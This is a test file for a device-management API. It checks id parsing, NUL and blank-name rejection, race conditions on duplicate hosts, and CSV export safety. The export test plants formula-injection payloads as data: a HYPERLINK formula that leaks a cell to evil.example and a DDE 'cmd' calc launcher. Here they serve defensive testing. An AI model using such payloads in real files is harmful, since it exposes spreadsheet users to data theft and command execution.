import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { adminAuth, createTestApp } from '../../../test-support/test-app.js';
import { TEST_DB } from '../../../test-support/test-db.js';

const RACERS = 8;

describe(`devices under hostile input (${TEST_DB})`, () => {
  let t: Awaited<ReturnType<typeof createTestApp>>;
  let admin: { authorization: string };
  const post = (url: string, payload: unknown, headers: Record<string, string> = {}) =>
    t.app.inject({ method: 'POST', url, headers: { ...admin, ...headers }, payload: payload as object });
  const importCsv = (csv: string) => post('/api/devices/import', csv, { 'content-type': 'text/csv' });

  beforeAll(async () => {
    t = await createTestApp();
    admin = await adminAuth(t.app);
  });
  afterAll(() => t?.close());

  it('reads an id only as plain digits: DELETE /api/devices/1.5 (or +1, 01, 1e0) is a 400 and device 1 stays', async () => {
    const one = await post('/api/devices', { name: 'One', host: '10.90.0.1', type: 'router' });
    expect(one.json().id).toBe(1);
    for (const id of ['1.5', '%2B1', '01', '1e0', '2147483648']) {
      const res = await t.app.inject({ method: 'DELETE', url: `/api/devices/${id}`, headers: admin });
      expect(res.statusCode, id).toBe(400);
      expect(res.json().fields).toEqual([{ field: 'id', message: expect.any(String) }]);
    }
    expect((await t.app.inject({ method: 'GET', url: '/api/devices/1', headers: admin })).statusCode).toBe(200);
  });

  it('names the field that holds a NUL character, and the line of a CSV', async () => {
    const body = await post('/api/towers', { name: 'Serra\u0000', latitude: 0, longitude: 0 });
    expect(body.statusCode).toBe(400);
    expect(body.json().fields).toEqual([{ field: 'name', message: 'name contains a NUL character' }]);
    const csv = await importCsv('name,host,type\nA,10.90.0.2,ap\nB\u0000,10.90.0.3,ap');
    expect(csv.statusCode).toBe(400);
    expect(csv.json().message).toContain('(line 3)');
  });

  it('trims names before validation: surrounding spaces go, a name of only spaces is a 400 naming the field', async () => {
    const tower = await post('/api/towers', { name: '  Serra Azul  ', latitude: 0, longitude: 0 });
    expect(tower.json().name).toBe('Serra Azul');
    const device = await post('/api/devices', { name: '\t AP 1 \n', host: '10.90.0.4', type: 'ap' });
    expect(device.json().name).toBe('AP 1');
    const blank = [
      ['/api/towers', { name: '   ', latitude: 0, longitude: 0 }],
      ['/api/devices', { name: '   ', host: '10.90.0.5', type: 'ap' }],
      ['/api/synthetic', { name: ' ', check: { kind: 'tcp', host: '127.0.0.1', port: 9 } }],
      ['/api/tokens', { name: '  ' }],
      ['/api/users', { email: 'blank@example.com', name: '  ', role: 'viewer', password: 'a-good-password' }],
    ] as const;
    for (const [url, payload] of blank) {
      const res = await post(url, payload);
      expect(res.statusCode, url).toBe(400);
      expect(res.json().fields, url).toEqual([{ field: 'name', message: expect.stringContaining('1') }]);
    }
    const patch = await t.app.inject({ method: 'PATCH', url: `/api/devices/${device.json().id}`, headers: admin, payload: { name: '  ' } });
    expect(patch.json().fields).toEqual([{ field: 'name', message: expect.any(String) }]);
    const rows = await post('/api/devices/import', [{ name: '  ', host: '10.90.0.6', type: 'ap' }, { name: ' AP 2 ', host: '10.90.0.7', type: 'ap' }]);
    expect(rows.json().lines).toEqual([{ line: 1, field: 'name', message: expect.any(String) }]);
    expect((await post('/api/devices/import', [{ name: ' AP 2 ', host: '10.90.0.7', type: 'ap' }])).json()).toEqual({ created: 1, updated: 0 });
    const stored = await t.app.inject({ method: 'GET', url: '/api/devices?q=10.90.0.7', headers: admin });
    expect(stored.json().items[0].name).toBe('AP 2');
  });

  it('answers a duplicate host created at the same moment with 409 DUPLICATE_HOST, never 500', async () => {
    for (let round = 0; round < 3; round++) {
      const host = `10.91.${round}.1`;
      const results = await Promise.all(Array.from({ length: RACERS }, (_, i) => post('/api/devices', { name: `Race ${i}`, host, type: 'ap' })));
      const statuses = results.map((r) => r.statusCode).sort();
      expect(statuses).toEqual([201, ...Array<number>(RACERS - 1).fill(409)]);
      for (const r of results.filter((x) => x.statusCode === 409)) expect(r.json()).toMatchObject({ code: 'DUPLICATE_HOST', fields: [{ field: 'host' }] });
    }
  });

  it('answers imports racing over one new host through HTTP with one creation and updates or 409s, never 500', async () => {
    for (let round = 0; round < 3; round++) {
      const host = `10.92.${round}.1`;
      const results = await Promise.all(Array.from({ length: RACERS }, (_, i) => importCsv(`name,host,type\nRace ${i},${host},ap`)));
      // An import that plans after the winner committed updates the device instead: also right.
      expect(results.map((r) => r.statusCode).filter((s) => s !== 200 && s !== 409)).toEqual([]);
      const ok = results.filter((r) => r.statusCode === 200).map((r) => r.json() as { created: number });
      expect(ok.reduce((n, r) => n + r.created, 0)).toBe(1);
      for (const r of results.filter((x) => x.statusCode === 409)) expect(r.json()).toMatchObject({ code: 'DUPLICATE_HOST' });
      const list = await t.app.inject({ method: 'GET', url: `/api/devices?q=${host}`, headers: admin });
      expect(list.json().total).toBe(1);
    }
  });

  it('turns the unique violation of an import that lost the race into DUPLICATE_HOST', async () => {
    // Called together, the imports all plan before any writes (on SQLite too, whose queries
    // resolve without I/O), so all but one meet the winner's row at insert.
    const outcomes = await Promise.allSettled(Array.from({ length: RACERS }, (_, i) => t.services.importer.importCsv(`name,host,type\nRace ${i},10.94.0.1,ap`)));
    const won = outcomes.filter((o) => o.status === 'fulfilled').map((o) => o.value);
    const lost = outcomes.filter((o) => o.status === 'rejected').map((o) => o.reason as { statusCode: number; code: string });
    expect(won.filter((w) => !w.ok)).toEqual([]);
    expect(won.reduce((n, w) => n + (w.ok ? w.created : 0), 0)).toBe(1);
    expect(lost.length).toBeGreaterThan(0);
    for (const e of lost) expect(e).toMatchObject({ statusCode: 409, code: 'DUPLICATE_HOST' });
  });

  it('neutralises formula cells on export, and the export imports back unchanged', async () => {
    const hostile = { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', host: '10.93.0.1', type: 'ap', vendor: '+cmd|" /C calc"!A0', model: '-2+3', notes: '@SUM(1)', tags: ['=a', 'b'] };
    expect((await post('/api/devices', hostile)).statusCode).toBe(201);
    expect((await post('/api/devices', { name: "'=already quoted", host: '10.93.0.2', type: 'ap' })).statusCode).toBe(201);
    const exported = (await t.app.inject({ method: 'GET', url: '/api/devices/export.csv', headers: admin })).body;
    const cells = (parse(exported, { columns: false }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const row = (parse(exported, { columns: true }) as Record<string, string>[]).find((r) => r.host === '10.93.0.1')!;
    expect(row).toMatchObject({ name: `'${hostile.name}`, vendor: `'${hostile.vendor}`, model: "'-2+3", notes: "'@SUM(1)", tags: "'=a;b" });

    const before = (await t.app.inject({ method: 'GET', url: '/api/devices?limit=1000', headers: admin })).json().items;
    const again = await importCsv(exported);
    expect(again.json()).toEqual({ created: 0, updated: before.length });
    const after = (await t.app.inject({ method: 'GET', url: '/api/devices?limit=1000', headers: admin })).json().items;
    const fields = (d: Record<string, unknown>) => [d.name, d.vendor, d.model, d.notes, d.tags];
    expect(after.map(fields)).toEqual(before.map(fields));
    expect(after.find((d: { host: string }) => d.host === '10.93.0.2').name).toBe("'=already quoted");
  });
});
